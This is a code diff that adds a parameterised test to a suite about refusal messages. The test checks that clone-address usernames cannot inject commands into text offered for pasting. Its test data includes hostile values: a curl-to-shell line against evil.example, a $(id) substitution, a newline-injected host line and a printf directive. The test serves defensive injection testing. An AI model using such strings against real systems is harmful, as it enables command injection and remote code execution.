@@ -122,6 +122,19 @@ describe('every refusal', () => {
     expect(`${sentence}${text}${url}${command}`).not.toMatch(/[\u0000-\u001f\u202e]/);
   });
 
+  it.each([
+    ["x'; curl evil.example | sh; '", 'a quote ends the word'],
+    ['x$(id)', 'a substitution'],
+    ['x\\nhost=evil.example', 'another line for git'],
+    ['x%s', 'a directive of printf'],
+  ])(
+    'a clone address with the username %j puts no command of its own into what is offered to paste (%s)',
+    (urlUsername) => {
+      const { command, url } = said('not_found', { ...FINE_GRAINED, urlUsername });
+      expect([command, url]).toEqual([undefined, expect.any(String)]);
+    },
+  );
+
   it('is said to strangers only when it is about what they sent, or tells nothing', () => {
     expect(REASONS.filter((reason) => REFUSALS[reason].strangerMayHear)).toEqual([
       'credentials_missing',
